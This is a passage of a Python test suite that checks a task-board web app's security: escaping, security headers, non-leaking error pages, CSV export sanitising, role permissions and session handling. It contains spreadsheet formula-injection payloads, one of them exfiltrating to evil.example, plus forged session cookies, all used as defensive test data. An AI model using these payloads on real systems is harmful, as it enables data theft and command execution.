        comment = await admin.post(f"/api/tasks/{task['id']}/comments", json={"content": text})
        assert (await comment.get_json())["content"] == text, name
        thread = await (await admin.get(f"/api/tasks/{task['id']}/comments")).get_json()
        assert thread["comments"][0]["content"] == text, name
        project = await admin.post("/api/projects", json={"id": f"uni-{n}", "name": text, "description": text})
        assert project.status_code == 201, name
        shown = await (await admin.get(f"/api/projects/uni-{n}")).get_json()
        assert shown["name"] == text and shown["description"] == text, name
        token = await admin.post("/api/tokens", json={"name": text, "role": "viewer"})
        assert (await token.get_json())["name"] == text, name
        # A form post (the board's dialog) keeps it too.
        edited = await admin.post(f"/board/tasks/{task['id']}", form={"title": text + " 2", "version": "1"},
                                  headers={"HX-Request": "true"})
        assert edited.status_code == 200, name
        assert (await (await admin.get(f"/api/tasks/{task['id']}")).get_json())["title"] == text + " 2", name
        assert str(escape(text)) in await body_of(edited), name
        for texts in pages.values():
            texts.append(text)
    for path, texts in pages.items():
        html = await body_of(await admin.get(path))
        for text in texts:
            assert str(escape(text)) in html, (path, text)


# --- 4. headers on every page, and error pages that leak nothing --------------------------------------

def assert_security_headers(response, where: str) -> None:
    headers = response.headers
    csp = headers.get("Content-Security-Policy", "")
    directives = {part.split()[0]: part.split()[1:] for part in csp.split(";") if part.strip()}
    assert "unsafe-inline" not in csp and "unsafe-eval" not in csp and "unsafe-hashes" not in csp, where
    assert directives.get("frame-ancestors") == ["'none'"], where
    assert directives.get("script-src") == ["'self'"], where
    assert directives.get("object-src") == ["'none'"], where
    assert directives.get("base-uri") in (["'none'"], ["'self'"]), where
    assert "default-src" in directives, where
    assert headers.get("X-Content-Type-Options") == "nosniff", where
    assert headers.get("X-Frame-Options") == "DENY", where
    assert headers.get("Referrer-Policy") in ("strict-origin-when-cross-origin", "no-referrer", "same-origin"), where


async def test_every_get_route_answers_with_security_headers(app, admin, client):
    project = await admin.post("/api/projects", json={"name": "Headers"})
    task = await admin.post("/api/tasks", json={"title": "headers", "projectId": "headers"})
    assert project.status_code == 201 and task.status_code == 201
    values = {"task_id": (await task.get_json())["id"], "project_id": "headers", "status": "todo",
              "filename": "css/app.css", "approval_id": "no-such-approval", "agent_id": "main",
              "session_key": "agent:main:main", "session_id": "agent:main:main", "rule_id": "no-such-rule",
              "webhook_id": "no-such-webhook", "delivery_id": "no-such-delivery", "gateway_id": "default"}
    checked = set()
    for rule in app.url_map.iter_rules():
        if "GET" not in rule.methods or getattr(rule, "websocket", False):
            continue
        missing = rule.arguments - set(values)
        assert not missing, f"add a value for {missing} of {rule.rule} to this test"
        path = rule.rule
        for name in rule.arguments:
            path = re.sub(rf"<(?:[^:>]+:)?{name}>", values[name], path)
        variants = [(admin, {}), (client, {})] + ([(admin, {"HX-Request": "true"})] if "/api" not in path else [])
        for who, headers in variants:
            response = await (who.get(path, headers=headers) if who is admin else who.get(path))
            where = f"GET {path} {headers} as {'admin' if who is admin else 'anonymous'}"
            gateway_read = rule.endpoint.startswith(("agents.", "message.")) and path.startswith("/api/")
            assert response.status_code < 500 or path == "/api/health" or (
                gateway_read and response.status_code == 503), where  # no gateway in this test: 503 by design
            assert_security_headers(response, where)
            if response.mimetype == "text/html" or rule.endpoint not in ("static", "settings.settings_css"):
                assert response.headers["Cache-Control"] == "no-store", where  # CSV exports too (issue #12)
            if path.startswith("/api/") and rule.endpoint not in ("auth.github_login", "auth.github_callback"):
                assert response.mimetype == "application/json", where
            if response.mimetype == "application/json":
                assert response.headers["Cache-Control"] == "no-store", where
            server = response.headers.get("Server")
            assert server is None or re.fullmatch(r"hypercorn(-h11|-h2|-h3)?", server), where
        checked.add(rule.endpoint)
    assert len(checked) >= 35


async def test_server_header_names_no_version(admin):
    response = await admin.get("/api/health")
    server = response.headers.get("Server")
    if server is None:
        pytest.skip("the in-process test client sends no Server header (Hypercorn adds one without a version)")
    assert not re.search(r"\d", server), server


LEAKS = ("Traceback", 'File "', str(PROJECT_ROOT), ".py", "SELECT", "sqlite", "asyncpg", "RuntimeError",
         "OperationalError", "hunter2", "werkzeug", "quart.", "site-packages", "line ")


async def test_error_pages_leak_nothing_and_carry_the_headers(app, admin, client):
    import sqlite3

    @app.get("/__test/boom")
    async def boom():
        raise RuntimeError("SELECT password FROM users WHERE login='hunter2' -- /work/main/clawtrol/db/x.py")

    @app.get("/api/__test/boom")
    async def api_boom():
        raise sqlite3.OperationalError("near \"SELECT\": syntax error in /work/main/clawtrol/db/database.py "
                                       "password=hunter2")

    cases = [
        ("GET", "/no/such/page", {}, 404), ("GET", "/api/no/such/thing", {}, 404),
        ("PUT", "/board", {}, 405), ("DELETE", "/api/tasks", {}, 405),
        ("POST", "/board/tasks", {"data": b"x" * (MiB + 1),
                                  "headers": {"Content-Type": "application/x-www-form-urlencoded"}}, 413),
        ("POST", "/api/tasks", {"data": b"x" * (MiB + 1), "headers": {"Content-Type": "application/json"}}, 413),
        ("GET", "/__test/boom", {}, 500), ("GET", "/api/__test/boom", {}, 500),
        ("GET", "/api/tasks/no-such-task", {}, 404), ("GET", "/board/tasks/no-such-task", {}, 404),
        ("GET", "/projects/no-such-project", {}, 404),
    ]
    for method, path, kwargs, status in cases:
        for extra in ({}, {"HX-Request": "true"}):
            kw = dict(kwargs)
            kw["headers"] = {**kw.get("headers", {}), **extra}
            response = await admin.request(method, path, **kw)
            where = f"{method} {path} {extra}"
            assert response.status_code == status, where
            text = await body_of(response)
            for leak in LEAKS:
                assert leak not in text, f"{where}: {leak!r} in the error"
            assert_security_headers(response, where)
            if path.startswith("/api/"):
                assert response.mimetype == "application/json" and set(await response.get_json()) <= {
                    "error", "field", "code"}, where
            else:
                assert response.mimetype == "text/html", where
                assert not markup_problems(text), where
    # Unauthenticated callers get the same treatment.
    response = await client.get("/api/__test/boom")
    assert response.status_code == 401 and await response.get_json() == {"error": "Not authenticated"}


async def test_audit_csv_neutralises_spreadsheet_formulas(app, admin, client):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    agent = Bearer(app, (await (await admin.post("/api/tokens", json={"name": formula, "role": "member"}))
                         .get_json())["token"])
    assert (await agent.post("/api/tasks", json={"title": "+SUM(1,1)"})).status_code == 201
    await client.get("/api/auth/callback?error=access_denied", headers={"User-Agent": "@SUM(1+1)*cmd|' /C calc'!A0"})
    response = await admin.get("/admin/audit.csv")
    rows = list(csv.reader(io.StringIO(await body_of(response))))
    assert len(rows) > 3
    dangerous = [cell for row in rows[1:] for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert dangerous == []


# --- 5. authorization matrix (README "Sign-in, roles and API tokens", DESIGN §4) -------------------------

FORM = "form"
R = "refused"  # a 2xx that must not write: the board's drag-and-drop answers 200 with a toast when refused


def _rows(role: str, expected: int, requests: list[tuple]) -> list[tuple]:
    return [(role, method, path, body, expected) for method, path, body in requests]


API_WRITES_NEEDING_MEMBER = [
    ("POST", "/api/tasks", {"title": "x"}),
    ("PATCH", "/api/tasks/{t_admin}", {"title": "x"}),
    ("DELETE", "/api/tasks/{t_admin}", None),
    ("POST", "/api/tasks/{t_admin}/comments", {"content": "x"}),
    ("PATCH", "/api/tasks/{t_admin}/comments/{c_admin}", {"content": "x"}),
    ("DELETE", "/api/tasks/{t_admin}/comments/{c_admin}", None),
    ("POST", "/api/projects", {"name": "Viewer project"}),
    ("PATCH", "/api/projects/{p_admin}", {"name": "x"}),
    ("DELETE", "/api/projects/{p_admin}", None),
    ("POST", "/api/projects/{p_admin}/create-tasks", {"tasks": [{"title": "xxxx"}]}),
    ("POST", "/api/agents/spawn", {"taskId": "{t_admin}"}),
    ("POST", "/api/agents/agent:main:main/message", {"message": "hello"}),
    ("POST", "/api/activity", {"type": "status", "message": "hello"}),
    ("POST", "/api/agents/associations", {"sessionKey": "agent:main:x", "projectId": "{p_admin}", "task": "x"}),
    ("POST", "/api/message", {"message": "hello"}),
    ("PATCH", "/api/agents/agent:main:main/model", {"model": "fake/fake-1"}),
    ("DELETE", "/api/agents/agent:main:other", None),
    ("POST", "/api/projects/import", {"folderId": "viewer-import"}),
]
ADMIN_ONLY_API = [
    ("PUT", "/api/settings", {"humanHourlyRate": 1}),
    ("PATCH", "/api/users/{u_member}", {"role": "admin"}),
    ("PATCH", "/api/users/{u_self}", {"role": "admin"}),
    ("PATCH", "/api/users/{u_member}", {"active": False}),
    ("DELETE", "/api/users/{u_member}", None),
    ("GET", "/api/tokens", None),
    ("POST", "/api/tokens", {"name": "escalate", "role": "admin"}),
    ("DELETE", "/api/tokens/{tok}", None),
    ("GET", "/api/audit", None),
]
ADMIN_ONLY_PAGES = [
    ("GET", "/admin/users", None), ("GET", "/admin/tokens", None), ("GET", "/admin/audit", None),
    ("GET", "/admin/audit.csv", None), ("GET", "/admin/settings", None),
    ("POST", "/admin/settings", (FORM, {"humanHourlyRate": "1"})),
    ("POST", "/admin/tokens", (FORM, {"name": "escalate", "role": "admin"})),
    ("POST", "/admin/tokens/{tok}/revoke", None),
    ("POST", "/admin/users/{u_self}", (FORM, {"role": "admin"})),
    ("POST", "/admin/users/{u_member}", (FORM, {"active": "false"})),
    ("DELETE", "/admin/users/{u_member}", None),
]
READS = [("GET", "/api/tasks/{t_admin}", None), ("GET", "/api/settings", None), ("GET", "/api/users", None),
         ("POST", "/api/projects/{p_admin}/parse-tasks", {"markdown": "## Tasks\n- read only parse"})]
VIEWER_PAGE_WRITES = [
    ("POST", "/board/tasks", (FORM, {"title": "x"})),
    ("GET", "/board/new", None),
    ("POST", "/board/tasks/{t_admin}", (FORM, {"title": "x", "version": "1"})),
    ("DELETE", "/board/tasks/{t_admin}", None),
    ("POST", "/board/tasks/{t_admin}/comments", (FORM, {"content": "x"})),
    ("POST", "/board/tasks/{t_admin}/start", (FORM, {})),
    ("POST", "/board/tasks/{t_admin}/comments/{c_admin}", (FORM, {"content": "x"})),
    ("DELETE", "/board/tasks/{t_admin}/comments/{c_admin}", None),
    ("POST", "/projects", (FORM, {"name": "x"})),
    ("POST", "/projects/{p_admin}", (FORM, {"name": "x"})),
    ("DELETE", "/projects/{p_admin}", None),
    ("POST", "/projects/{p_admin}/tasks", (FORM, {"title": "xxxx"})),
    ("POST", "/projects/{p_admin}/suggestions", (FORM, {"pick": "0", "title-0": "xxxx"})),
]
MEMBER_REFUSED = [  # a member (cookie) acting on what is not theirs
    ("PATCH", "/api/tasks/{t_other}", {"title": "x"}),
    ("POST", "/api/agents/spawn", {"taskId": "{t_other}"}),
    ("POST", "/api/agents/agent:main:main/message", {"message": "a session no task of mine uses"}),
    ("POST", "/api/message", {"message": "the main session is nobody's through start work"}),
    ("PATCH", "/api/agents/agent:main:main/model", {"model": "fake/fake-1"}),
    ("DELETE", "/api/agents/agent:main:other", None),
    ("POST", "/board/tasks/{t_other}/start", (FORM, {})),
    # a session link is set by start work or an admin, never by a member: it would name another's session
    ("PATCH", "/api/tasks/{t_mine}", {"sessionKey": "agent:main:main"}),
    ("POST", "/api/tasks", {"title": "x", "sessionKey": "agent:main:main"}),
    ("DELETE", "/api/tasks/{t_other}", None),
    ("PATCH", "/api/tasks/{t_admin}", {"status": "done"}),
    ("DELETE", "/api/tasks/{t_admin}", None),
    ("PATCH", "/api/tasks/{t_admin}/comments/{c_admin}", {"content": "x"}),
    ("DELETE", "/api/tasks/{t_admin}/comments/{c_admin}", None),
    ("DELETE", "/api/tasks/{t_admin}/comments/{c_other}", None),
    ("PATCH", "/api/projects/{p_admin}", {"archived": True}),
    ("DELETE", "/api/projects/{p_admin}", None),
    ("POST", "/board/tasks/{t_other}", (FORM, {"title": "x", "version": "1"})),
    ("DELETE", "/board/tasks/{t_other}", None),
    ("POST", "/board/tasks/{t_admin}/comments/{c_other}", (FORM, {"content": "x"})),
    ("DELETE", "/board/tasks/{t_admin}/comments/{c_admin}", None),
    ("POST", "/projects/{p_admin}", (FORM, {"name": "x"})),
    ("DELETE", "/projects/{p_admin}", None),
]
MEMBER_ALLOWED = [
    ("PATCH", "/api/tasks/{t_mine}", {"title": "mine, renamed"}, 200),
    ("PATCH", "/api/tasks/{t_assigned}", {"status": "in-progress"}, 200),
    ("POST", "/api/tasks/{t_admin}/comments", {"content": "members may comment anywhere"}, 201),
    ("POST", "/api/tasks", {"title": "member task"}, 201),
]
TOKEN_MEMBER_REFUSED = [  # a member token owns only the tasks it created
    ("PATCH", "/api/tasks/{t_admin}", {"title": "x"}),
    ("PATCH", "/api/tasks/{t_mine}", {"title": "x"}),
    ("PATCH", "/api/tasks/{t_assigned}", {"title": "x"}),
    ("DELETE", "/api/tasks/{t_other}", None),
    ("DELETE", "/api/tasks/{t_admin}/comments/{c_admin}", None),
    ("PATCH", "/api/projects/{p_admin}", {"name": "x"}),
    ("PATCH", "/api/tasks/{t_token}", {"sessionKey": "agent:main:main"}),
    ("POST", "/api/tasks", {"title": "x", "sessionKey": "agent:main:main"}),
    ("POST", "/api/agents/agent:main:main/message", {"message": "a session this token did not start"}),
    ("POST", "/api/message", {"message": "the main session"}),
]

MATRIX: list[tuple] = (
    _rows("viewer", 403, API_WRITES_NEEDING_MEMBER + ADMIN_ONLY_API + ADMIN_ONLY_PAGES + VIEWER_PAGE_WRITES)
    + _rows("viewer", R, [("POST", "/board/tasks/{t_admin}/move?status=todo&version=1", None)])
    + _rows("viewer", 200, READS)
    + _rows("viewer-token", 403, API_WRITES_NEEDING_MEMBER + ADMIN_ONLY_API)
    + _rows("viewer-token", 200, READS)
    + _rows("member", 403, MEMBER_REFUSED + ADMIN_ONLY_API + ADMIN_ONLY_PAGES)
    + _rows("member", R, [("POST", "/board/tasks/{t_other}/move?status=todo&version=1", None)])
    + _rows("member", 200, READS)
    + [("member", m, p, b, s) for m, p, b, s in MEMBER_ALLOWED]
    + _rows("member-token", 403, TOKEN_MEMBER_REFUSED + ADMIN_ONLY_API)
    + _rows("member-token", 200, READS + [("PATCH", "/api/tasks/{t_token}", {"title": "the token's own"})])
    + _rows("member-token", 201, [("POST", "/api/tasks", {"title": "token task"})])
    + _rows("admin-token", 200, READS + [
        ("PATCH", "/api/tasks/{t_other}", {"title": "admin edits anything"}),
        ("PATCH", "/api/tasks/{t_other}", {"sessionKey": "agent:main:linked-by-an-admin"}),
        ("PUT", "/api/settings", {"humanHourlyRate": 75}), ("GET", "/api/tokens", None), ("GET", "/api/audit", None),
        ("DELETE", "/api/tasks/{t_admin}/comments/{c_other}", None)])
    + _rows("admin", 200, [("GET", "/admin/users", None), ("GET", "/admin/audit", None),
                           ("PATCH", "/api/tasks/{t_other}", {"title": "admin edits anything"}),
                           ("PUT", "/api/settings", {"kanbanColumnWidth": 300})])
)
ROLE_GROUPS = {"viewers": ("viewer", "viewer-token"), "members": ("member", "member-token"),
               "admins": ("admin-token", "admin")}


@pytest.mark.parametrize("group", ROLE_GROUPS)
async def test_authorization_matrix(app, db, admin, member, viewer, group):
    meg = await sign_in_as(app, "meg", "member")
    ids = {"u_member": member.user["id"]}
    project = await admin.post("/api/projects", json={"name": "Admin project"})
    ids["p_admin"] = (await project.get_json())["project"]["id"]
    for key, who, body in (("t_admin", admin, {"title": "admin's"}), ("t_other", meg, {"title": "meg's"}),
                           ("t_mine", member, {"title": "mel's"}),
                           ("t_assigned", admin, {"title": "for mel", "assignedTo": member.user["id"]})):
        response = await who.post("/api/tasks", json=body)
        assert response.status_code == 201
        ids[key] = (await response.get_json())["id"]
    for key, who in (("c_admin", admin), ("c_other", meg)):
        response = await who.post(f"/api/tasks/{ids['t_admin']}/comments", json={"content": key})
        ids[key] = (await response.get_json())["id"]
    ids["tok"] = (await new_token(db, admin, "victim-token", "viewer"))[0]["id"]
    agents = {name: Bearer(app, (await new_token(db, admin, name, name.split("-")[0]))[1])
              for name in ("viewer-token", "member-token", "admin-token")}
    created = await agents["member-token"].post("/api/tasks", json={"title": "the token's"})
    ids["t_token"] = (await created.get_json())["id"]
    callers = {"viewer": viewer, "member": member, "admin": admin, **agents}
    for role in ROLE_GROUPS[group]:
        caller = callers[role]
        own_id = caller.user["id"] if isinstance(caller, Browser) else member.user["id"]
        await run_matrix_rows(db, role, caller, {**ids, "u_self": own_id})
    assert {row[0] for row in MATRIX} == {role for roles in ROLE_GROUPS.values() for role in roles}


async def run_matrix_rows(db, role: str, caller, ids: dict) -> None:
    rows = [row for row in MATRIX if row[0] == role]
    assert rows
    state = await snapshot(db, ids["t_admin"])
    for _, method, template, body, expected in rows:
        path = template.format(**ids)
        kwargs = {}
        if isinstance(body, tuple):
            kwargs["form"] = body[1]
        elif body is not None:
            kwargs["json"] = {k: v.format(**ids) if isinstance(v, str) and v.startswith("{") else v
                              for k, v in body.items()}
        response = await caller.request(method, path, **kwargs)
        where = f"{role} {method} {template} {body}"
        if expected == R:
            assert response.status_code == 200, where
            assert "clawtrol:toast" in response.headers.get("HX-Trigger", ""), where
        else:
            assert response.status_code == expected, f"{where}: {response.status_code} {await body_of(response)}"
        if expected in (R, 403):
            after = await snapshot(db, ids["t_admin"])
            assert after == state, f"{where}: a refused request changed data"
            if path.startswith("/api/"):
                assert (await response.get_json())["code"] == "FORBIDDEN", where
        elif method != "GET":
            state = await snapshot(db, ids["t_admin"])


# --- 6. session fixation and server-side sessions ------------------------------------------------------

LOOPBACK = {"client": ("127.0.0.1", 50000)}
SAME_ORIGIN = {"Sec-Fetch-Site": "same-origin"}


@pytest.fixture
async def dev_app(database_url, tmp_path):
    environ = make_environ(database_url, tmp_path, CLAWTROL_ENV="development", CLAWTROL_DEV_LOGIN="true",
                           GITHUB_CLIENT_ID="", GITHUB_CLIENT_SECRET="")
    application = create_app(load_config(environ, env_file=None))
    async with application.test_app():
        yield application


def session_cookie(response) -> str | None:
    for header in response.headers.getlist("Set-Cookie"):
        match = re.match(r"clawtrol_session=([^;]*)", header)
        if match:
            return match.group(1)
    return None


async def whoami(app, cookie: str):
    client = app.test_client()
    client.set_cookie("localhost", "clawtrol_session", cookie, path="/", domain="localhost")
    return await client.get("/api/auth/me")


async def dev_sign_in(client, login: str):
    response = await client.post("/auth/dev-login", form={"login": login}, headers=SAME_ORIGIN, scope_base=LOOPBACK)
    assert response.status_code == 302
    return response


async def check_sign_in_issues_a_fresh_session_and_ignores_a_planted_cookie(dev_app):
    """Session fixation: an attacker who plants a (validly signed) cookie with an id they know gains nothing."""
    db = services_of(dev_app).db
    await dev_sign_in(dev_app.test_client(), "first-admin")
    victim = dev_app.test_client()
    planted = generate_auth_token(victim, "attacker-knows-this-id")
    victim.set_cookie("localhost", "clawtrol_session", planted, path="/", domain="localhost")
    assert (await victim.get("/api/auth/me")).status_code == 401
    issued = session_cookie(await dev_sign_in(victim, "victim"))
    assert issued and issued != planted
    assert (await (await whoami(dev_app, issued)).get_json())["githubLogin"] == "victim"
    assert (await whoami(dev_app, planted)).status_code == 401
    assert await sessions.lookup(db, "attacker-knows-this-id") is None


async def check_signing_in_over_a_session_does_not_upgrade_the_old_cookie(dev_app):
    from quart_auth.extension import _AuthSerializer

    client = dev_app.test_client()
    mallory = session_cookie(await dev_sign_in(client, "mallory"))
    # A signed-in browser posting the sign-in form is a cookie-authenticated write: it needs the CSRF token.
    refused = await client.post("/auth/dev-login", form={"login": "victim"}, headers=SAME_ORIGIN, scope_base=LOOPBACK)
    assert refused.status_code == 403
    raw = _AuthSerializer(SESSION_SECRET, "clawtrol-session").loads(mallory)
    async with dev_app.app_context():
        token = csrf.token_for(raw)
    response = await client.post("/auth/dev-login", form={"login": "victim", "csrf_token": token},
                                 headers=SAME_ORIGIN, scope_base=LOOPBACK)
    assert response.status_code == 302
    victim = session_cookie(response)
    assert victim and victim != mallory
    assert (await (await whoami(dev_app, victim)).get_json())["githubLogin"] == "victim"
    old = await whoami(dev_app, mallory)
    assert old.status_code == 401 or (await old.get_json())["githubLogin"] == "mallory"


async def check_every_sign_in_gets_its_own_random_session(dev_app):
    cookies = {session_cookie(await dev_sign_in(dev_app.test_client(), "same-person")) for _ in range(3)}
    assert len(cookies) == 3


async def test_sign_in_always_issues_a_fresh_session(dev_app):
    await check_sign_in_issues_a_fresh_session_and_ignores_a_planted_cookie(dev_app)
    await check_signing_in_over_a_session_does_not_upgrade_the_old_cookie(dev_app)
    await check_every_sign_in_gets_its_own_random_session(dev_app)


async def test_every_logout_path_ends_the_session_server_side(app, admin):
    """test_guard covers the JSON logout; the htmx and plain-form ones must be as final."""
    await check_logout(app, admin, "htmx")
    await check_logout(app, await sign_in_as(app, "ada"), "form")


async def check_logout(app, admin: Browser, how: str) -> None:
    if how == "htmx":
        response = await admin.post("/api/auth/logout", headers={"HX-Request": "true"})
        assert response.status_code == 204 and response.headers["HX-Redirect"] == "/login"
    else:
        response = await admin.client.post("/api/auth/logout", form={"csrf_token": admin.csrf_token},
                                           headers=SAME_ORIGIN)
        assert response.status_code == 303
    replayed = generate_auth_token(admin.client, admin.raw_session)
    assert (await whoami(app, replayed)).status_code == 401
    # The old CSRF token is worthless too: nothing is accepted for that session.
    client = app.test_client()
    client.set_cookie("localhost", "clawtrol_session", replayed, path="/", domain="localhost")
    write = await client.post("/api/tasks", json={"title": "after logout"},
                              headers={"X-CSRF-Token": admin.csrf_token, **SAME_ORIGIN})
    assert write.status_code == 401


async def test_forged_and_tampered_session_cookies_are_refused(app, admin, db):
    from quart_auth.extension import _AuthSerializer

    good = generate_auth_token(admin.client, admin.raw_session)
    assert (await whoami(app, good)).status_code == 200
    forged = _AuthSerializer("another-secret-" + "y" * 40, "clawtrol-session").dumps(admin.raw_session)
    unsalted = _AuthSerializer(SESSION_SECRET, "quart auth salt").dumps(admin.raw_session)
    body, _, signature = good.rpartition(".")
    flipped = body + "." + ("A" if signature[0] != "A" else "B") + signature[1:]
    for cookie in (forged, unsalted, flipped, admin.raw_session, good + "x", "", "null", "."):
        assert (await whoami(app, cookie)).status_code == 401, cookie
    # The database keeps only a hash of the session id: the raw id is not a key there.
    assert await db.one("sessions.resolve", id=admin.raw_session, now=now_iso()) is None
    assert await db.one("sessions.resolve", id=sessions.session_key(admin.raw_session), now=now_iso()) is not None


def test_templates_never_mark_user_data_safe():
    """`|safe` or Markup around user data would bypass autoescaping; the one use wraps an already rendered
    template (board/task_page.html)."""
    uses = []
    for path in TEMPLATES.rglob("*.html"):
        for line in path.read_text().splitlines():
            if re.search(r"\|\s*safe\b|autoescape\s+false", line):
                uses.append((path.relative_to(TEMPLATES).as_posix(), line.strip()))
    assert uses == [("board/task_page.html", '<div class="panel">{{ detail|safe }}</div>')]
